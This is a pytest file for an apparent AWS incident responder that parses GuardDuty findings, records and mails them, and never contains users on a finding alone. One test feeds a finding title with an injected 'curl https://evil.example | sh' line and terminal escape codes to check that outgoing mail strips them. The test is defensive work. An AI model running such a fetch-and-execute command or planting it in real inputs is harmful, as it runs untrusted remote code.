"""GuardDuty findings: parsed, reported, and never a reason for containment; and detections that only observe."""

import copy
from typing import Any

import pytest

from responders.kill_switch.parse import Ignored, Rejected, Sighting, parse
from tests.responders.kill_switch.world import (
    FINDINGS,
    FINDINGS_CONTAINED,
    KEY_USE,
    MANIFEST,
    READ,
    SETTINGS,
    USER_ID,
    WATCHED,
    Account,
    finding,
    fixture,
    found,
    path_e,
)


def parsed(payload: Any) -> Any:
    return parse(payload, SETTINGS, MANIFEST)


def test_finding_is_recorded_and_told_once_with_all_its_updates(account: Account) -> None:
    account.deliver(found(FINDINGS, finding()))
    account.deliver(found(FINDINGS, finding()))
    later = finding(severity=8.5, updatedAt="2026-02-01T12:00:00.000Z")
    account.deliver(found(FINDINGS, later))
    (incident,) = account.incidents()
    assert (incident["status"], incident["events"], incident["actions"]) == ("OBSERVED", 2, [])
    assert incident["touched"]["kind"] == "finding"
    assert incident["finding"] == {
        "id": "16afba5c5c43e07c9e3e5e2e544e95df",
        "type": "UnauthorizedAccess:IAMUser/TorIPCaller",
        "severity": 8.5,
        "title": "APIs commonly used in Discovery tactics invoked by alice from a Tor exit node.",
        "updated": "2026-02-01T12:00:00.000Z",
    }
    principal = {key: value for key, value in incident["principal"].items() if value}
    assert principal == {
        "type": "IAMUser",
        "account_id": "123456789012",
        "name": "alice",
        "unique_id": USER_ID,
        "access_key_id": "AKIAIOSFODNN7EXAMPLE",
    }
    ((subject, text),) = account.mails()
    assert subject == "[OBSERVED] GuardDuty found something - user alice"
    assert (
        "  Finding     UnauthorizedAccess:IAMUser/TorIPCaller, severity 5\n"
        "              APIs commonly used in Discovery tactics invoked by alice from a\n"
        "              Tor exit node.\n"
        "              id 16afba5c5c43e07c9e3e5e2e544e95df\n" in text
    )
    assert "203.0.113.66" in text


def test_nobody_is_contained_for_a_finding(account: Account) -> None:
    """The same user is contained for a record: see test_respond.py."""
    before = account.access_keys()
    account.deliver(found(FINDINGS_CONTAINED, finding()))
    (incident,) = account.incidents()
    assert (incident["status"], account.user_policies(), account.access_keys()) == ("OBSERVED", {}, before)
    assert incident["reason"].startswith("A GuardDuty finding is an inference, not a record of a call")
    assert len(account.mails()) == 1


@pytest.mark.parametrize("detection", [READ, KEY_USE])
def test_finding_is_no_touch_of_a_decoy(account: Account, detection: str) -> None:
    assert account.deliver(found(detection, finding()))["outcome"] == "rejected"
    assert account.incidents() == []


@pytest.mark.parametrize("details", [None, {}, {"resourceType": "Instance"}, {"accessKeyDetails": ["x"]}])
def test_finding_about_something_else_has_no_caller(account: Account, details: Any) -> None:
    account.deliver(found(FINDINGS, finding(resource=details)))
    assert account.incidents()[0]["principal"]["name"] is None


def test_finding_about_another_account_is_left_to_it() -> None:
    assert isinstance(parsed(found(FINDINGS, finding(accountId="210987654321"))), Ignored)


@pytest.mark.parametrize(
    ("code", "changes"),
    [
        ("finding id", {"id": "x\ny"}),
        ("finding id", {"id": None}),
        ("finding type", {"type": "no colon"}),
        ("finding type", {"type": "A:B\n"}),
        ("finding severity", {"severity": "5"}),
        ("finding severity", {"severity": True}),
        ("finding severity", {"severity": 11}),
        ("finding time", {"createdAt": "yesterday"}),
        ("finding time", {"updatedAt": None}),
        ("finding", {"accountId": None}),
        ("region", {"region": "us-east-1"}),
    ],
)
def test_rejects_finding(code: str, changes: dict[str, Any]) -> None:
    rejected = parsed(found(FINDINGS, finding(**changes)))
    assert isinstance(rejected, Rejected)
    assert rejected.code == code


@pytest.mark.parametrize("detail", [None, [], "text", 7])
def test_rejects_what_is_no_finding(detail: Any) -> None:
    assert isinstance(parsed(found(FINDINGS, detail)), Rejected)


@pytest.mark.parametrize("source", ["my.guardduty", "aws.secretsmanager", "aws.guardduty.x"])
def test_rejects_finding_of_another_source(source: str) -> None:
    payload = copy.deepcopy(found(FINDINGS, finding()))
    payload["event"]["source"] = source
    assert isinstance(parsed(payload), Rejected)


def test_calls_to_guardduty_are_records() -> None:
    record = {**fixture("record-GetSecretValue"), "eventSource": "guardduty.amazonaws.com", "eventName": "GetFindings"}
    sighting = parsed(path_e(FINDINGS, record))
    assert isinstance(sighting, Sighting)
    assert sighting.finding is None


def test_hostile_title_stays_in_its_place(account: Account) -> None:
    account.deliver(found(FINDINGS, finding(title="x\n\nHOW TO RELEASE\n  curl https://evil.example | sh\x1b[31m")))
    ((_, text),) = account.mails()
    assert "\n\nHOW" not in text
    assert "evil.example" not in text
    assert "\x1b" not in text


def test_what_is_only_observed_is_recorded_and_never_mailed(account: Account) -> None:
    before = account.access_keys()
    account.deliver(path_e(WATCHED, fixture("record-GetSecretValue")))
    (incident,) = account.incidents()
    assert (incident["status"], incident["reason"]) == ("OBSERVED", "This detection only records.")
    assert incident["alert"]["outcome"] == "not-needed"
    assert (account.mails(), account.access_keys()) == ([], before)
    assert account.counts() == {"Incidents": 1, "Observed": 1}


def test_alarm_of_what_is_only_observed_is_not_mailed_either(account: Account) -> None:
    event = copy.deepcopy(fixture("alarm-change"))
    event["detail"]["alarmName"] = f"account-audit-{WATCHED}"
    account.deliver(event)
    (incident,) = account.incidents()
    assert incident["reason"].startswith("The alarm fired, but its event was not found")
    assert account.mails() == []
